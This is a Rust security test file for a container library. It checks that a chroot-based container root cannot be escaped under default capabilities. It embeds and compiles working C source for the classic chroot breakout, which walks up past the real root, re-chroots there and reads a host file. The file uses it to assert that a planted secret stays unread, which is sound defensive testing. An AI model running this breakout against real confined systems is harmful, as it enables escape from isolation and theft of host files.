//! Attacks on the spawn-path changes of the 2026-11-30 session (spare child
//! stacks, capabilities from capget, the initramfs answer per root mount,
//! device nodes, joined namespaces, chroot without a mount namespace,
//! per-mount propagation, the Container/Command reshape), as someone
//! controlling the container's root filesystem, program or configuration.
//! Each test asserts the safe outcome: a failing test is a hole. (root)

#[macro_use]
mod common;

use common::TempDir;
use containment::mount::{DevSpec, RootMode};
use containment::{Container, Namespaces};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};

fn busybox() -> Option<PathBuf> {
    ["/bin/busybox", "/usr/bin/busybox"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
}

macro_rules! require_busybox {
    () => {
        require!(
            busybox().is_some(),
            "busybox-static is not installed (cargo xtask test installs it)"
        );
    };
}

/// A busybox root (every applet) under `dir/root`.
fn busybox_root(dir: &Path) -> PathBuf {
    let root = dir.join("root");
    for d in ["bin", "etc", "tmp", "proc", "dev", "sys", "mnt"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let bb = busybox().unwrap();
    std::fs::copy(&bb, root.join("bin/busybox")).unwrap();
    let list = std::process::Command::new(&bb)
        .arg("--list")
        .output()
        .unwrap();
    for applet in String::from_utf8_lossy(&list.stdout).lines() {
        let _ = symlink("busybox", root.join("bin").join(applet));
    }
    root
}

/// Compiles `src` (C) into a static binary at `out`; false without gcc or
/// a static libc.
fn compile_static(src: &str, out: &Path) -> bool {
    let c = out.with_extension("c");
    std::fs::write(&c, src).unwrap();
    let ok = std::process::Command::new("gcc")
        .args(["-O2", "-static", "-o"])
        .arg(out)
        .arg(&c)
        .status()
        .is_ok_and(|s| s.success());
    if ok {
        std::fs::set_permissions(out, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    ok
}

/// The classic chroot break-out: chroot into a subdirectory (the working
/// directory stays outside it), walk up past the real root, chroot there,
/// then print the host file named by argv[1].
const CHROOT_BREAKOUT: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>
int main(int argc, char **argv) {
    mkdir("/esc", 0700);
    if (chroot("/esc") != 0) { perror("chroot"); return 2; }
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) { perror("chroot ."); return 3; }
    int f = open(argv[1], O_RDONLY);
    if (f < 0) { perror("open"); return 4; }
    char b[128];
    int n = read(f, b, sizeof b);
    if (n > 0) write(1, b, n);
    return 0;
}
"#;

/// `RootMode::Chroot` (explicit, or `Auto` on an initramfs host), with and
/// without a mount namespace: the container's root must not be able to
/// leave its root with the default capabilities (docker's set has
/// CAP_SYS_CHROOT, with which a chroot is no boundary).
#[test]
fn chroot_root_cannot_be_left_with_the_default_capabilities() {
    require_root!();
    require_busybox!();
    let dir = TempDir::new("chrootesc");
    let root = busybox_root(&dir.0);
    require!(
        compile_static(CHROOT_BREAKOUT, &root.join("breakout")),
        "gcc with a static libc is needed to build the attacker"
    );
    let secret = dir.0.join("HOST-SECRET");
    std::fs::write(&secret, "host-secret-contents").unwrap();
    for (shape, ns) in [
        ("chroot without a mount namespace", Namespaces::PID),
        (
            "chroot in a mount namespace",
            Namespaces::MOUNT | Namespaces::PID,
        ),
    ] {
        let mut c = Container::new()
            .unshare(ns)
            .root(&root)
            .root_mode(RootMode::Chroot);
        if !ns.contains(Namespaces::MOUNT) {
            c = c.dev(DevSpec::Keep).mount_proc(false);
        }
        let out = c
            .command("/breakout")
            .arg(&secret)
            .output()
            .unwrap_or_else(|e| panic!("{shape}: {e}"));
        let stdout = String::from_utf8_lossy(&out.stdout);
        eprintln!(
            "{shape}: {:?} {stdout:?} {:?}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !stdout.contains("host-secret-contents"),
            "{shape}: the container left its root and read the host's {}: {stdout:?} ({:?})",
            secret.display(),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}
